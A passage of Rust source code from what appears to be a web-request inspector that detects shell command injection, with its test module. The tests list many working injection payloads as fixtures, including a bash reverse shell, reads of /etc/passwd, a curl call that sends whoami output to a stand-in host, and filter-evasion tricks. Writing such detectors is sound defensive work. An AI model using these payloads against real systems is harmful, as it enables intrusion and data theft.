        }
        if breakout && i >= lead_at {
            break;
        }
    }
    best.filter(|b| b.0 > Level::None)
        .map(|(level, start, end)| Finding {
            start,
            end,
            strong: level == Level::Strong,
        })
}

/// Whether two words or more follow the substitution opened at `toks[i]` once it is closed:
/// a substitution inside text.
fn text_follows(toks: &[Tok], i: usize) -> bool {
    let mut depth = 0usize;
    let mut words = 0usize;
    for t in &toks[i..] {
        match t.t {
            T::Subst | T::Paren => depth += 1,
            T::Close => depth = depth.saturating_sub(1),
            T::Word if depth == 0 => {
                words += 1;
                if words >= 2 {
                    return true;
                }
            }
            T::Sep if depth == 0 => return false,
            _ => {}
        }
    }
    false
}

/// Judges the command after the separator (or substitution) `toks[i]` standing at `place`.
/// `truncated` means the lexer stopped before the end of the value.
fn judge_command(
    value: &[u8],
    toks: &[Tok],
    i: usize,
    place: Place,
    truncated: bool,
) -> Option<(Level, usize, usize)> {
    let sep = toks[i];
    let mut j = i + 1;
    while toks.get(j).is_some_and(|t| t.t == T::Paren) {
        j += 1;
    }
    let w = toks.get(j).filter(|t| t.t == T::Word)?;
    let cmd = w.cmd;
    if cmd == 0 && w.flags & BINPATH == 0 {
        return unknown_command(value, toks, i, j, place, truncated);
    }
    let mut end = w.end;
    let (mut args, mut ends) = (false, false);
    // Shell-looking arguments; `numbers` also counts numbers for a command that takes them.
    let (mut shellish, mut numbers) = (w.flags & BRACE_ARGS != 0, false);
    // A substitution amid words of text is someone writing about a command
    // (`apt install linux-headers-$(uname -r)`): only a split command word is unmistakable.
    let amid_text = sep.t == T::Subst && words_before_text(place);
    let mut unmistakable = w.flags & SPLIT != 0 || (!amid_text && w.flags & BINPATH != 0);
    let recon = !amid_text && cmd & RECON != 0;
    // An argument that is a word of text (`ifconfig shows no address`).
    let mut prose = false;
    let mut k = j + 1;
    loop {
        let Some(a) = toks.get(k) else {
            ends = !truncated;
            break;
        };
        if k > j + MAX_ARGS {
            break;
        }
        match a.t {
            T::Word => {
                args = true;
                shellish |= a.flags & SHELLISH != 0;
                prose |= a.flags & (LISTWORD | SHELLISH) == LISTWORD;
                numbers |= a.flags & NUMBER != 0 && cmd & NUMERIC != 0;
                if k == j + 1
                    && ((cmd & CMD != 0 && a.flags & SWITCH != 0)
                        || (cmd & NET != 0 && a.flags & NETSUB != 0))
                {
                    unmistakable = true;
                }
            }
            T::Redir => shellish = true,
            T::Sep | T::Subst | T::Close | T::Nul => {
                ends = true;
                break;
            }
            T::Paren | T::Stray => break,
        }
        end = a.end;
        k += 1;
    }
    args |= w.flags & BRACE_ARGS != 0;
    // A recon command is unmistakable, unless it is followed by words of text after text:
    // someone describing what it printed.
    unmistakable |= recon && !(place == Place::Free && prose && !shellish);
    let shell = shellish || numbers;
    let bare = cmd & BARE != 0;
    let wordy = cmd & WORDY != 0;
    let level = if place == Place::Text {
        if bare || shell || unmistakable || cmd & RECON != 0 || w.flags & BINPATH != 0 {
            Level::Weak
        } else {
            Level::None
        }
    } else if unmistakable {
        Level::Strong
    } else {
        match place {
            Place::BreakOut if bare || args => Level::Strong,
            Place::BreakOut if ends => Level::Weak,
            Place::Lead | Place::LeadAfterToken => {
                // An everyday word with plain arguments after a newline or `&` (or after a
                // datum that is not an address) could be text: `Note:\nset the clock`; so
                // could a Markdown code span with plain arguments: `` `cd app` ``.
                let guarded = (wordy
                    && (place == Place::LeadAfterToken
                        || (args && sep.flags & (NEWLINE | AMP) != 0)))
                    || (args && sep.flags & BACKQUOTE != 0);
                if shell || (!guarded && (bare || args)) {
                    Level::Strong
                } else if bare || args || (ends && toks.get(k).is_some()) {
                    Level::Weak
                } else {
                    Level::None
                }
            }
            // Numbers are not enough after a word: `work; sleep 8 hours`.
            Place::LeadAfterWord if shellish => Level::Strong,
            Place::LeadAfterWord | Place::Free if bare && !args && !wordy && ends => Level::Weak,
            Place::Free if shell => Level::Weak,
            _ => Level::None,
        }
    };
    (level > Level::None).then_some((level, sep.start, end))
}

/// Judges an unknown word after the separator `toks[i]`: a command missing from [`command`]'s
/// list (`;reboot`, `|notepad|`, `a);halt`). Its name cannot tell, so only its place and its
/// shape do: a program name standing alone, between separators or at the end of the value,
/// right where a command would start. Glued to a `;`, `|`, `||` or `&&` after a break-out
/// it is strong; first in the value it is weak (an application's own link may carry
/// `?title=|Home`) unless split by quotes or escapes (`;r'e'boot`). With a blank in between, after a `&`,
/// a newline or a substitution that stands alone (`& more`, a text area's leading newline,
/// `` `npm` ``; not jQuery's `$(document).ready`), or after a number (`5;see`), it is weak;
/// glued to a `;`, `|` or newline after the value's first datum (`a;halt`) too, but not to
/// a `&` (`R&D`, `AT&T`), and to a `||` or `&&` after a word of a list (`FAIL||halt`).
/// A variable in the command's place (`X=…;$X`) counts as a name, and is weak even after
/// text. Otherwise, after words of text or a word of a list (`rock|pop`), it is nothing.
fn unknown_command(
    value: &[u8],
    toks: &[Tok],
    i: usize,
    j: usize,
    place: Place,
    truncated: bool,
) -> Option<(Level, usize, usize)> {
    let (sep, w) = (toks[i], toks[j]);
    let raw = value.get(w.start..w.end).unwrap_or_default();
    // A variable run as the command (`X=…;$X`, `;${CMD}`): the way to hide its name.
    let variable = matches!(raw, [b'$', c, ..] if c.is_ascii_alphabetic() || *c == b'{');
    // Split by quotes or escapes, and a word for it (`r'e'boot`, not `y^2`).
    let split = w.flags & SPLIT != 0 && w.flags & DATA == 0;
    if w.flags & NAMEISH == 0 && !split && !variable {
        return None;
    }
    // Alone: nothing after the word but a separator, a closing, or the end of the value.
    let alone = match toks.get(j + 1) {
        None => !truncated,
        Some(t) => matches!(t.t, T::Sep | T::Subst | T::Close | T::Nul),
    };
    // A substitution must stand alone too (`$(reboot)`, `` `halt&` ``): `$(document).ready`
    // is jQuery.
    if sep.t == T::Subst {
        let mut k = j + 1;
        while toks.get(k).is_some_and(|t| t.t == T::Sep) {
            k += 1;
        }
        let closed = toks.get(k).is_some_and(|t| t.t == T::Close)
            && toks
                .get(k + 1)
                .is_none_or(|t| t.t == T::Sep && t.start == toks[k].end);
        if !closed {
            return None;
        }
    }
    let args_shellish = !alone
        && toks
            .get(j + 1)
            .is_some_and(|t| t.t == T::Redir || (t.t == T::Word && t.flags & SHELLISH != 0));
    let glued = sep.end == w.start && j == i + 1;
    let hard = sep.t == T::Sep && sep.flags & (AMP | NEWLINE) == 0;
    // `||` or `&&` (or `;|`): never the separator of a list.
    let double = hard && sep.end - sep.start >= 2;
    // First in the value, not after a number (`5;see`).
    let first = toks[..i].iter().all(|t| t.t != T::Word);
    let level = match place {
        Place::BreakOut if alone && hard && (glued || split) => Level::Strong,
        // First in the value, a name alone is weak unless split: an application's own link
        // may carry `?title=|Home`; `;r'e'boot` is nobody's title.
        Place::Lead if first && alone && hard && split => Level::Strong,
        Place::BreakOut | Place::Lead if alone || args_shellish => Level::Weak,
        Place::LeadAfterToken if alone && (glued || split) && sep.flags & AMP == 0 => Level::Weak,
        Place::LeadAfterWord if alone && glued && double => Level::Weak,
        Place::Free if alone && glued && hard && variable => Level::Weak,
        _ => Level::None,
    };
    (level > Level::None).then_some((level, sep.start, w.end))
}

/// Whether `place` comes after words of text.
fn words_before_text(place: Place) -> bool {
    matches!(place, Place::Free | Place::Text)
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::signature::decode;

    fn read(rel: &str) -> String {
        let path = format!("{}/tests/corpus/{rel}", env!("CARGO_MANIFEST_DIR"));
        std::fs::read_to_string(&path).unwrap_or_else(|e| panic!("{path}: {e}"))
    }

    /// A wire-form line decoded as the inspector decodes a query value for a tokeniser
    /// (backslashes kept).
    fn wire(line: &str) -> Vec<u8> {
        decode::canonical(line.as_bytes(), true).into_owned()
    }

    fn strong(v: &str) -> bool {
        detect(v.as_bytes()).is_some_and(|f| f.strong)
    }

    /// The values of a `path?query` line, decoded.
    fn query_values(line: &str) -> Vec<Vec<u8>> {
        let q = line.split_once('?').map_or("", |(_, q)| q);
        let q = q.split('#').next().unwrap_or("");
        q.split('&')
            .map(|kv| kv.split_once('=').map_or(kv, |(_, v)| v))
            .map(|v| decode::canonical(v.as_bytes(), true).into_owned())
            .collect()
    }

    #[test]
    fn corpus_figures() {
        let mut missed = Vec::new();
        for file in ["cmdi.wfuzz.txt", "cmdi.hand.txt"] {
            let text = read(&format!("evasion/{file}"));
            let (mut total, mut found, mut strong) = (0usize, 0usize, 0usize);
            for line in text.lines().filter(|l| !l.is_empty()) {
                total += 1;
                match detect(&wire(line)) {
                    Some(f) => {
                        found += 1;
                        strong += usize::from(f.strong);
                        if !f.strong {
                            println!("  weak {file}: {line}");
                        }
                    }
                    None => missed.push(format!("{file}: {line}")),
                }
            }
            println!("{file:16} detected {found}/{total}, strong {strong}");
        }
        for m in &missed {
            println!("  miss {m}");
        }

        let (mut total, mut weak, mut strong) = (0usize, 0usize, 0usize);
        for file in [
            "man.txt",
            "quotes.txt",
            "searches.hand.txt",
            "words.txt",
            "urls.hand.txt",
        ] {
            let text = read(&format!("benign/{file}"));
            for line in text.lines().filter(|l| !l.is_empty()) {
                let values = if file == "urls.hand.txt" {
                    query_values(line)
                } else {
                    vec![line.as_bytes().to_vec()]
                };
                total += 1;
                let mut worst: Option<Finding> = None;
                for v in &values {
                    if let Some(f) = detect(v) {
                        if worst.is_none_or(|w| f.strong && !w.strong) {
                            worst = Some(f);
                        }
                    }
                }
                if let Some(f) = worst {
                    println!(
                        "  benign {} {file}: {line}",
                        if f.strong { "STRONG" } else { "weak" }
                    );
                    if f.strong {
                        strong += 1;
                    } else {
                        weak += 1;
                    }
                }
            }
        }
        println!("benign: strong {strong}, weak {weak}, of {total}");
        assert!(missed.is_empty(), "missed: {missed:?}");
        assert_eq!(strong, 0);
        assert!(weak * 1000 <= total * 2, "weak {weak} of {total}");
    }

    #[test]
    fn injections_are_strong() {
        for v in [
            // separator and command word, first in the value
            "127.0.0.1;id",
            "x|id",
            "|id",
            ";id;",
            "&ping -n 3 127.0.0.1&",
            "a;cat /etc/passwd",
            "127.0.0.1 | id",
            "127.0.0.1 && id",
            "127.0.0.1 -c 4; id",
            "-n 1 127.0.0.1 | id",
            "127.0.0.1\r\nid",
            "127.0.0.1\nid",
            "/index.html|id|",
            ";read;",
            "\\nnetstat -a%\\n",
            ";echo aWQ=|base64 -d|sh",
            "| dir c:\\",
            "&set",
            "127.0.0.1&set",
            "&q'u'ot;;id\"",
            // unmistakable commands, anywhere after a separator
            "ping; /bin/sh -c id",
            "x; /usr/bin/env",
            "one two; ../../bin/sh",
            "my text; whoami",
            "my text; uname -a",
            "text text; nslookup x.example.com",
            "a b & ipconfig /all",
            "a b & systeminfo",
            "a b & net user",
            "a b | cmd /c dir",
            "a b | cmd.exe /k dir",
            "a b | powershell -enc aQBkAA==",
            ";/???/??t /???/p??s??",
            // quotes, escapes and empty expansions inside a command word
            ";w'h'o'am'i",
            ";w\\ho\\am\\i",
            ";wh\"\"oami",
            ";who$@ami",
            ";wh$()oami",
            "some text; c'a't /etc/hosts",
            "127.0.0.1 | i\\d",
            "x & who^ami",
            "| type %SYSTEMROOT%\\win.ini",
            "& %COMSPEC% /c dir",
            // $IFS for a space
            ";cat${IFS}/etc/passwd",
            ";cat$IFS/etc/passwd",
            "cat$IFS$9/etc/passwd",
            // command substitution
            "`id`",
            "$(id)",
            "$(sleep 5)",
            " $(sleep 50)",
            "127.0.0.1 `id`",
            "127.0.0.1 $(id)",
            ";$(printf 'id')",
            "$(curl http://x.example.com/$(whoami))",
            // redirections, brace expansion, NUL
            ";cat</etc/passwd",
            ";bash -i >& /dev/tcp/10.0.0.1/4444 0>&1",
            "a b; x >/dev/tcp/10.0.0.1/80",
            ";{cat,/etc/passwd}",
            "id\0",
            "i$@d\0|",
            // break-outs
            "';id;'",
            "\";id;\"",
            "x\")|id",
            "a);id;#",
            "x';whoami;#",
            "x\" | whoami #",
            "x' && sleep 5 && '",
        ] {
            assert!(strong(v), "{v:?} -> {:?}", detect(v.as_bytes()));
        }
    }

    #[test]
    fn text_and_lists_are_weak() {
        for v in [
            "cd app; ls -la",
            "fields=name|id",
            "name|id",
            "name;id",
            "some words | ls",
            "linux;ls",
            "ls -la; pwd",
            "/a?b=1&id",
            "x|set",
            "x;cat videos",
            "Note:\nset the clock",
            "`ls -la` shows hidden files",
            "use `ls -la` to list files",
            "`cd app`",
            "sudo apt install linux-headers-$(uname -r)",
            "`/bin/sh` vs `/bin/bash` difference",
            "`uname -r` prints the kernel",
        ] {
            let f = detect(v.as_bytes());
            assert!(f.is_some_and(|f| !f.strong), "{v:?} -> {f:?}");
        }
    }

    /// Commands missing from the list: judged by place and shape alone.
    #[test]
    fn unknown_commands_by_place() {
        for v in [
            "a);reboot",
            "';reboot;'",
            ";r'e'boot",
            "/usr/bin/env|",
            "../../../../../../../../../../../../usr/bin/env|",
        ] {
            assert!(strong(v), "{v:?} -> {:?}", detect(v.as_bytes()));
        }
        for v in [
            ";reboot",
            "|notepad|",
            "&&shutdown",
            "||halt;",
            // An application's own link: stepped up at most, never denied.
            "|Home",
            ";Overview",
            "; reboot",
            "& reboot",
            "&reboot&",
            "\nreboot",
            "$(reboot)",
            "$(reboot&)",
            "`reboot`",
            "a;reboot",
            "a|reboot",
            "5;reboot",
            "FAIL||reboot",
            "CMD=$'reboot';$CMD",
            "id|",
        ] {
            let f = detect(v.as_bytes());
            assert!(f.is_some_and(|f| !f.strong), "{v:?} -> {f:?}");
        }
        for v in [
            "R&D",
            "AT&T",
            "B&B deals",
            "rock|pop",
            "tags=linux;music",
            "$(document).ready",
            "$(window).on resize",
            "see below; thanks",
            "chapter 3;appendix",
            "x^2; y^2",
            "notes|",
            "/usr/share/doc|",
        ] {
            assert_eq!(detect(v.as_bytes()), None, "{v:?}");
        }
    }

    #[test]
    fn free_text_is_nothing() {
        for v in [
            "backup first; update router settings",
            "tom & jerry",
            "R&D",
            "R&D department",
            "AT&T customer service",
            "Q&A session",
            "rock|pop",
            "rock & roll",
            "dog & cat",
            "salt & pepper grinder",
            "echo chamber",
            "cat videos",
            "set up my account",
            "ping pong table",
            "5 | 3",
            "$5 coffee",
            "costs $5; worth it",
            "**bold** | table | row",
            "how to use grep | sort",
            "curl | bash",
            "wget -qO- | sh",
            "git log --oneline | head",
            "ps aux | grep java",
            "sudo apt update && sudo apt upgrade",
            "cat file | wc -l",
            "for i in $(seq 1 10)",
            "$(document).ready",
            "${HOME} vs $HOME",
            "./configure && make",
            "a < b && b < c",
            "if (a || b)",
            "data:image/png;base64",
            "text/html;charset=utf-8",
            "chapter 3; create table of contents",
            "it's a \"quote\"; really",
            "don't; stop",
            "C:\\new folder",
            "line one\nline two",
            "game, set & match",
            "x^2; y^2",
            "2^10 & 3^4",
            "eat; sleep 8 hours",
            "router settings; ifconfig shows no address",
            "work & sleep 8 hours",
            "read & write",
        ] {
            assert_eq!(detect(v.as_bytes()), None, "{v:?}");
        }
    }

    #[test]
    fn plain_values_are_not_worth_tokenising() {
        for v in [
            "2",
            "price",
            "red shoes",
            "john.doe@example.com",
            "https://example.com/a/b?c",
            "2024-01-01",
            "$5 coffee",
            "echo chamber",
            "C:\\Users\\me",
            "a1b2c3d4",
        ] {
            assert!(!worth_tokenising(v.as_bytes()), "{v:?}");
        }
        for v in [
            ";id", "a|b", "R&D", "`x`", "$(x", "${IFS}", "who$@ami", "\\nid", "id\0",
        ] {
            assert!(worth_tokenising(v.as_bytes()), "{v:?}");
        }
    }

    #[test]
    fn findings_lie_within_the_value() {
        for v in [
            "127.0.0.1;id",
            "x';whoami;#",
            ";cat${IFS}/etc/passwd",
            "id\0",
            "a);id;#",
            "cd app; ls -la",
        ] {
            let f = detect(v.as_bytes()).expect(v);
            assert!(f.start < f.end && f.end <= v.len(), "{v:?} -> {f:?}");
        }
        let f = detect(b"127.0.0.1;id").expect("found");
        assert_eq!((f.start, f.end), (9, 12));
    }

    #[test]
    #[ignore]
    fn cost_per_benign_value() {
        let mut values = Vec::new();
        for file in ["man.txt", "quotes.txt", "searches.hand.txt", "words.txt"] {
            values.extend(
                read(&format!("benign/{file}"))
                    .lines()
                    .map(|l| l.as_bytes().to_vec()),
            );
        }
        for line in read("benign/urls.hand.txt").lines() {
            values.extend(query_values(line));
        }
        let rounds = 50;
        let t = std::time::Instant::now();
        let mut hits = 0usize;
        for _ in 0..rounds {
            for v in &values {
                // `detect` runs the pre-check itself
                if detect(std::hint::black_box(v.as_slice())).is_some() {
                    hits += 1;
                }
            }
        }
        let ns = t.elapsed().as_nanos() as f64 / (rounds * values.len()) as f64;
        let worth: Vec<&[u8]> = values
            .iter()
            .map(|v| v.as_slice())
            .filter(|v| worth_tokenising(v))
            .collect();
        let t = std::time::Instant::now();
        for _ in 0..rounds {
            for v in &values {
                std::hint::black_box(worth_tokenising(std::hint::black_box(v.as_slice())));
            }
        }
        let ns_worth = t.elapsed().as_nanos() as f64 / (rounds * values.len()) as f64;
        let t = std::time::Instant::now();
        for _ in 0..rounds {
            for v in &worth {
                std::hint::black_box(detect(std::hint::black_box(v)));
            }
        }
        let ns_detect = t.elapsed().as_nanos() as f64 / (rounds * worth.len().max(1)) as f64;
        let hostile = ";$(".repeat(2730);
        let t = std::time::Instant::now();
        for _ in 0..rounds {
            std::hint::black_box(detect(std::hint::black_box(hostile.as_bytes())));
        }
        let ns_hostile = t.elapsed().as_nanos() as f64 / rounds as f64;
        println!(
            "{} benign values, {} worth tokenising; mean {ns:.0} ns per value \
             (worth_tokenising alone {ns_worth:.0} ns, detect on a worthy value {ns_detect:.0} ns; \
             hits {}); 8 KiB of `;$(` {ns_hostile:.0} ns",
            values.len(),
            worth.len(),
            hits / rounds
        );
    }

    #[test]
    fn adversarial_inputs_do_not_panic() {
        // Random values biased towards shell punctuation.
        let alphabet = b";|&`$(){}'\"\\#<>\n\r\t \0/?*@IFSidlscatwhoami-.,0123456789n^%\xa0\xff";
        crate::signature::fuzz::values(0x2545_f491_4f6c_dd1d, alphabet, 20_000, |buf| {
            if let Some(f) = detect(buf) {
                assert!(f.start <= f.end && f.end <= buf.len());
            }
        });
        for v in [
            ";".repeat(8192),
            "|".repeat(8192),
            "&&".repeat(4096),
            "$(".repeat(4096),
            "`".repeat(8192),
            "(".repeat(8192),
            ")".repeat(8192),
            "'".repeat(8191),
            "\"".repeat(8191),
            "\\".repeat(8192),
            "\\n".repeat(4096),
            "${IFS}".repeat(1365),
            "$@".repeat(4096),
            ";id".repeat(2730),
            "'".to_owned() + &"a;".repeat(4095),
            "\"".to_owned() + &"$(".repeat(4095),
            "x".repeat(8192),
            "{".repeat(8192) + ",",
            "$".repeat(8192),
            "#".repeat(8192),
        ] {
            if let Some(f) = detect(v.as_bytes()) {
                assert!(f.start <= f.end && f.end <= v.len());
            }
        }
    }
}
